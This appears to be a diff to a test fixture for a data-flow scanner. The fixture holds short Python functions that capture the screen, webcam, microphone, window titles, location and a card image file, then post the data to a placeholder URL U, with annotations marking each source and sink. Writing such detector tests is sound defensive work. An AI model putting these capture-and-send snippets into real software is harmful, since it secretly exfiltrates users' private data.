@@ -151,11 +151,17 @@ def image_grab_old():
 
 
 def image_opened():
-    image = Image.open("/home/me/card.png")  #~ source(FILE) f24
+    image = Image.open("/home/me/card.png")  #~ source(FILE) f24, capability(FILES)
     requests.post(U, data=image.tobytes())  #~ sink(egress.http) f24, finding(traced) f24
 
 
+def image_from_bytes():
+    image = Image.frombytes("RGB", (1, 1), mss.mss().grab({}).bgra)  #~ source(SCREEN) f25
+    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f25, finding(traced) f25
+
+
 def image_compared():
+    requests.post(U, data=Image.frombytes("RGB", (1, 1), b"ping").tobytes())  #~ ok
     ImageGrab.grab().save("/tmp/unsent.png")  #~ ok
     requests.post(U, data={"none": ImageGrab.grabclipboard() == ""})  #~ ok
     requests.post(U, data={"none": Image.open("logo.png").tobytes() == b""})  #~ ok
@@ -163,13 +169,13 @@ def image_compared():
 
 
 def gui_screenshot():
-    image = pyautogui.screenshot()  #~ source(SCREEN) f26, capability(SCREEN)
-    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f26, finding(traced) f26
+    image = pyautogui.screenshot()  #~ source(SCREEN) f27, capability(SCREEN)
+    requests.post(U, data=image.tobytes())  #~ sink(egress.http) f27, finding(traced) f27
 
 
 def gui_window(screen):
-    image = screen.grabWindow(0)  #~ source(SCREEN) f27, capability(SCREEN)
-    requests.post(U, data=image)  #~ sink(egress.http) f27, finding(traced) f27
+    image = screen.grabWindow(0)  #~ source(SCREEN) f28, capability(SCREEN)
+    requests.post(U, data=image)  #~ sink(egress.http) f28, finding(traced) f28
 
 
 def gui_compared(screen):
@@ -179,25 +185,25 @@ def gui_compared(screen):
 
 def camera():
     capture = cv2.VideoCapture(0)  #~ capability(CAMERA)
-    done, frame = capture.read()  #~ source(CAMERA) f29
-    requests.post(U, data=frame)  #~ sink(egress.http) f29, finding(traced) f29
+    done, frame = capture.read()  #~ source(CAMERA) f30
+    requests.post(U, data=frame)  #~ sink(egress.http) f30, finding(traced) f30
 
 
 def camera_encoded():
-    done, frame = cv2.VideoCapture(0).read()  #~ source(CAMERA) f30
+    done, frame = cv2.VideoCapture(0).read()  #~ source(CAMERA) f31
     done, data = cv2.imencode(".jpg", frame)
-    requests.post(U, data=data)  #~ sink(egress.http) f30, finding(traced) f30
+    requests.post(U, data=data)  #~ sink(egress.http) f31, finding(traced) f31
 
 
 def camera_written():
-    done, frame = cv2.VideoCapture(0).read()  #~ source(CAMERA) f31
+    done, frame = cv2.VideoCapture(0).read()  #~ source(CAMERA) f32
     cv2.imwrite("/tmp/cv2.jpg", frame)  #~ capability(FILE_WRITE)
     requests.post(U, data=open("/tmp/cv2.jpg", "r+b").read())  #~ sink(egress.http) fcv, finding(traced) fcv
 
 
 def camera_file():
-    image = cv2.imread("/home/me/card.png")  #~ source(FILE) f32, capability(FILES)
-    requests.post(U, data=image)  #~ sink(egress.http) f32, finding(traced) f32
+    image = cv2.imread("/home/me/card.png")  #~ source(FILE) f33, capability(FILES)
+    requests.post(U, data=image)  #~ sink(egress.http) f33, finding(traced) f33
 
 
 def camera_compared():
@@ -211,8 +217,8 @@ def camera_compared():
 
 def camera_pi():
     target = io.BytesIO()
-    picamera.PiCamera().capture(target, "jpeg")  #~ source(CAMERA) f34, capability(CAMERA)
-    requests.post(U, data=target.getvalue())  #~ sink(egress.http) f34, finding(traced) f34
+    picamera.PiCamera().capture(target, "jpeg")  #~ source(CAMERA) f35, capability(CAMERA)
+    requests.post(U, data=target.getvalue())  #~ sink(egress.http) f35, finding(traced) f35
 
 
 def camera_pi_unsent():
@@ -220,8 +226,8 @@ def camera_pi_unsent():
 
 
 def microphone():
-    sound = sounddevice.rec(100)  #~ source(AUDIO) f36, capability(MICROPHONE)
-    requests.post(U, data=sound)  #~ sink(egress.http) f36, finding(traced) f36
+    sound = sounddevice.rec(100)  #~ source(AUDIO) f37, capability(MICROPHONE)
+    requests.post(U, data=sound)  #~ sink(egress.http) f37, finding(traced) f37
 
 
 def send_sound(data, frames, time, status):
@@ -238,33 +244,33 @@ def microphone_stream():
 
 def microphone_stream_read():
     stream = sounddevice.InputStream()
-    data, overflowed = stream.read(100)  #~ source(AUDIO) f40
-    requests.post(U, data=data)  #~ sink(egress.http) f40, finding(traced) f40
+    data, overflowed = stream.read(100)  #~ source(AUDIO) f41
+    requests.post(U, data=data)  #~ sink(egress.http) f41, finding(traced) f41
 
 
 def microphone_old():
     stream = pyaudio.PyAudio().open(format=8)  #~ capability(MICROPHONE)
-    requests.post(U, data=stream.read(100))  #~ source(AUDIO) f41, sink(egress.http) f41, finding(traced) f41
+    requests.post(U, data=stream.read(100))  #~ source(AUDIO) f42, sink(egress.http) f42, finding(traced) f42
 
 
 def microphone_speech():
     recognizer = speech_recognition.Recognizer()
-    sound = recognizer.listen(None)  #~ source(AUDIO) f42, capability(MICROPHONE)
-    recognizer.recognize_google(sound)  #~ sink(egress.http) f42, finding(traced) f42, capability(NETWORK)
+    sound = recognizer.listen(None)  #~ source(AUDIO) f43, capability(MICROPHONE)
+    recognizer.recognize_google(sound)  #~ sink(egress.http) f43, finding(traced) f43, capability(NETWORK)
 
 
 def microphone_written():
-    sound = sounddevice.rec(100)  #~ source(AUDIO) f43
+    sound = sounddevice.rec(100)  #~ source(AUDIO) f44
     buffer = io.BytesIO()
     scipy.io.wavfile.write(buffer, 44100, sound)  #~ capability(FILE_WRITE)
-    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f43, finding(traced) f43
+    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f44, finding(traced) f44
 
 
 def microphone_wave():
-    sound = sounddevice.rec(100)  #~ source(AUDIO) f44
+    sound = sounddevice.rec(100)  #~ source(AUDIO) f45
     buffer = io.BytesIO()
     wave.open(buffer, "wb").writeframes(sound)  #~ capability(FILE_WRITE)
-    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f44, finding(traced) f44
+    requests.post(U, data=buffer.getvalue())  #~ sink(egress.http) f45, finding(traced) f45
 
 
 def microphone_compared():
@@ -283,13 +289,13 @@ def microphone_compared():
 
 
 def window_title():
-    title = win32gui.GetWindowText(0)  #~ source(PROCESS) f46, capability(PROCESSES)
-    requests.post(U, data=title)  #~ sink(egress.http) f46, finding(traced) f46
+    title = win32gui.GetWindowText(0)  #~ source(PROCESS) f47, capability(PROCESSES)
+    requests.post(U, data=title)  #~ sink(egress.http) f47, finding(traced) f47
 
 
 def place():
-    here = geocoder.ip("me")  #~ source(LOCATION) f47, capability(LOCATION), capability(NETWORK)
-    requests.post(U, data=here.latlng)  #~ sink(egress.http) f47, finding(traced) f47
+    here = geocoder.ip("me")  #~ source(LOCATION) f48, capability(LOCATION), capability(NETWORK)
+    requests.post(U, data=here.latlng)  #~ sink(egress.http) f48, finding(traced) f48
 
 
 def window_compared():
